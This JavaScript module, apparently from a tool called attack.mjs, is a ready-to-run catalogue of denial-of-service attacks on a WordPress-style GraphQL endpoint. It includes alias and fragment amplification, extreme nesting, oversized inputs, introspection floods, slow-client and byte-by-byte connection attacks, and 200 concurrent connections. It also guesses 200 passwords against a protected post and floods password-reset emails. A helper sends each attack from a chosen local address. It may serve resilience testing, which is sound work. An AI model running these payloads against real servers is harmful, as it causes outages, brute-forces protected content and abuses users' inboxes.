// The attacks of attack.mjs, by name: a query, or a function that runs the attack.
import { request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';

const many = (count, make) => Array.from({ length: count }, (_, n) => make(n)).join(' ');
const comments = 'comments(after: "YXJyYXljb25uZWN0aW9uOjE=") { nodes { id } }';
const conversions =
  'content(format: MARKDOWN) t: content(format: TEXT) wordCount blocks(flat: true) { name text renderedHtml } images { src } links { url } headings { text }';

/** Queries, by what they contain. */
const queries = {
  'connections inside a connection': `{ posts(first: 1000) { nodes { ${comments} } } }`,
  'ten aliases of them': `{ ${many(10, (n) => `a${n}: posts(first: 1000, where: { search: "s${n}" }) { nodes { ${comments} } }`)} }`,
  '240 aliases of them': `{ ${many(240, (n) => `a${n}: posts(first: 1000, where: { search: "s${n}" }) { nodes { ${comments} } }`)} }`,
  'Markdown under twenty aliases': `{ posts(first: 1000) { nodes { ${many(20, (n) => `m${n}: content(format: MARKDOWN)`)} } } }`,
  'all conversions of content': `{ posts(first: 1000) { nodes { ${conversions} } } }`,
  'conversions with other URLs': `{ posts(first: 1000) { nodes { ${['RELATIVE', 'ABSOLUTE'].map((urls, n) => `c${n}: content(urls: ${urls}) m${n}: content(format: MARKDOWN, urls: ${urls}) l${n}: links(urls: ${urls}) { url uri isExternal }`).join(' ')} } } }`,
  'excerpts under 50 aliases': `{ posts(first: 1000) { nodes { content ${many(50, (n) => `e${n}: excerpt(format: MARKDOWN)`)} } } }`,
  'raw HTML under 200 aliases': `{ posts(first: 1000) { nodes { ${many(200, (n) => `c${n}: content`)} } } }`,
  'all pages at once': `{ ${many(20, (n) => `p${n}: posts(first: 1000, where: { search: "${'abcdefghijklmnopqrst'[n]}" }) { nodes { content title } }`)} }`,
  'large searches': `{ ${many(20, (n) => `p${n}: posts(first: 100, where: { search: "${many(60, (m) => `w${n}x${m}`)}" }) { nodes { id } }`)} }`,
  '1,000 items of 190 fields': `{ posts(first: 1000) { nodes { ${many(190, (n) => `t${n}: title`)} } } }`,
  'one item of 9,000 fields': `{ posts(first: 1) { nodes { ${many(150, (n) => `a${n}: author { node { ...F } }`)} } } } fragment F on User { ${many(50, (n) => `n${n}: name`)} }`,
  'lists inside lists': `{ posts(first: 100) { nodes { ${'author { node { posts(first: 100) { nodes { '.repeat(10)} id ${'} } } }'.repeat(10)} } } }`,
  'terms of posts of terms': `{ categories(first: 100) { nodes { ${'posts(first: 100) { nodes { categories(first: 100) { nodes { '.repeat(3)} name ${'} } } }'.repeat(3)} } } }`,
  '`__schema` a hundred times': `{ ${many(100, (n) => `s${n}: __schema { types { name fields { name type { name } } } }`)} }`,
  'lists inside introspection': `{ __schema { types { ${many(100, (n) => `f${n}: fields { name args { name } }`)} } } }`,
  'the introspection of tools':
    '{ __schema { types { kind name description fields(includeDeprecated: true) { name description args { name description type { kind name ofType { kind name ofType { kind name } } } defaultValue } type { kind name ofType { kind name ofType { kind name } } } } inputFields { name } interfaces { name } enumValues { name } possibleTypes { name } } } }',
  'equal fields': `{ posts { nodes { ${'title '.repeat(16_000)} } } }`,
  'equal connections': `{ ${'posts { nodes { id } } '.repeat(1400)} }`,
  'fragments of fragments': `{ posts { nodes { ...F0 } } } ${many(1900, (n) => `fragment F${n} on Post { ...F${n + 1} id }`)} fragment F1900 on Post { id }`,
  'fragments that double': `{ posts { nodes { ...F0 } } } ${many(1000, (n) => `fragment F${n} on Post { ...F${n + 1} ...F${n + 1} }`)} fragment F1000 on Post { id }`,
  'fragments that conflict': `{ posts { nodes { ${many(1200, (n) => `...F${n}`)} } } } ${many(1200, (n) => `fragment F${n} on Post { a${n % 7}: title b${n}: uri }`)}`,
  'unknown fields': `{ posts { nodes { ${many(9000, (n) => `x${n}`)} } } }`,
  'unknown arguments': `{ posts(${many(3000, (n) => `x${n}: 1`)}) { nodes { id } } }`,
  directives: `{ posts { nodes { title ${'@skip(if: false) '.repeat(5000)} } } }`,
  variables: `query (${many(7000, (n) => `$v${n}: Int`)}) { posts { nodes { id } } }`,
  operations: many(2500, (n) => `query Q${n} { posts { nodes { id } } }`),
  'nested fields': `{ ${'a { '.repeat(30_000)}b${' }'.repeat(30_000)} }`,
  'nested lists': `{ posts(where: { in: ${'['.repeat(45_000)}${']'.repeat(45_000)} }) { nodes { id } } }`,
  'nested objects': `{ posts(where: ${'{ a: '.repeat(15_000)}1${'}'.repeat(15_000)}) { nodes { id } } }`,
  'a long string': `{ posts(where: { search: "${'x'.repeat(95_000)}" }) { nodes { id } } }`,
  'a long list': `{ posts(where: { in: [${many(15_000, (n) => n)}] }) { nodes { id } } }`,
  'many uris': `{ ${many(150, (n) => `u${n}: nodeByUri(uri: "/a/${n}/b/") { id }`)} }`,
  '200 passwords': `{ ${many(200, (n) => `p${n}: post(id: 1, idType: DATABASE_ID, password: "${n}") { id }`)} }`,
  '50 e-mails': `mutation { ${many(50, (n) => `e${n}: sendPasswordResetEmail(input: { username: "nobody${n}" }) { success }`)} }`,
};

/** Attacks of other forms. They get a function that sends a body, and the endpoint. */
const actions = {
  'a huge string in variables': ({ send }) =>
    send({
      query: 'query ($s: String) { posts(where: { search: $s }) { nodes { id } } }',
      variables: { s: 'ä'.repeat(45_000) },
    }),
  'nested variables': ({ send }) =>
    send(
      `{"query":"query ($w: RootQueryToPostConnectionWhereArgs) { posts(where: $w) { nodes { id } } }","variables":{"w":${'{"a":'.repeat(15_000)}1${'}'.repeat(15_000)}}}`,
    ),
  'a batch of ten heavy operations': ({ send }) =>
    send(
      Array.from({ length: 10 }, (_, n) => ({
        query: `{ posts(first: 1000, where: { search: "${'abcdefghij'[n]}" }) { nodes { ${conversions} } } }`,
      })),
    ),
  'ten heavy operations at once': ({ send }) =>
    Promise.all(
      Array.from({ length: 10 }, () => send({ query: `{ posts(first: 300) { nodes { ${conversions} } } }` })),
    ),
  '200 connections at once': ({ send }) =>
    Promise.all(
      Array.from({ length: 200 }, (_, n) =>
        send({ query: `{ posts(first: 20, where: { search: "s${n}" }) { nodes { title } } }` }),
      ),
    ),
  '50 clients that read slowly': ({ open }) =>
    Promise.all(
      Array.from({ length: 50 }, async () => {
        const sent = open();
        sent.on('response', (response) => response.pause());
        sent.end(JSON.stringify({ query: '{ posts(first: 100) { nodes { content } } }' }));
        await sleep(2000);
        sent.destroy();
      }),
    ),
  '100 bodies sent byte by byte': ({ open }) =>
    Promise.all(
      Array.from({ length: 100 }, async () => {
        const sent = open();
        for (const byte of '{"query":"{ posts { nodes { id } } }"')
          if (!sent.destroyed) {
            sent.write(byte);
            await sleep(40);
          }
        sent.destroy();
      }),
    ),
  '100 clients that leave': ({ open }) =>
    Promise.all(
      Array.from({ length: 100 }, async (_, n) => {
        await sleep(n * 10);
        const sent = open();
        sent.end(JSON.stringify({ query: `{ posts(first: 1000) { nodes { ${conversions} } } }` }));
        await sleep(30);
        sent.destroy();
      }),
    ),
};

/** All attacks: what one sends at most, and a function that runs it. */
export const attacks = new Map([
  ...Object.entries(queries).map(([name, query]) => [name, ({ send }) => send({ query })]),
  ...Object.entries(actions),
]);

/** Returns the means of an attack on an endpoint, from a local address. */
export function meansOf(endpoint, localAddress) {
  const open = () =>
    request(endpoint, {
      method: 'POST',
      agent: false,
      localAddress,
      headers: { 'content-type': 'application/json' },
    }).on('error', () => undefined);
  const send = (body) =>
    new Promise((resolve) => {
      const sent = open();
      sent.on('response', (response) => {
        let bytes = 0;
        response.on('data', (chunk) => {
          bytes += chunk.length;
        });
        response.on('close', () => resolve(bytes));
      });
      sent.on('close', () => resolve(0));
      sent.end(typeof body === 'string' ? body : JSON.stringify(body));
    });
  return { open, send };
}
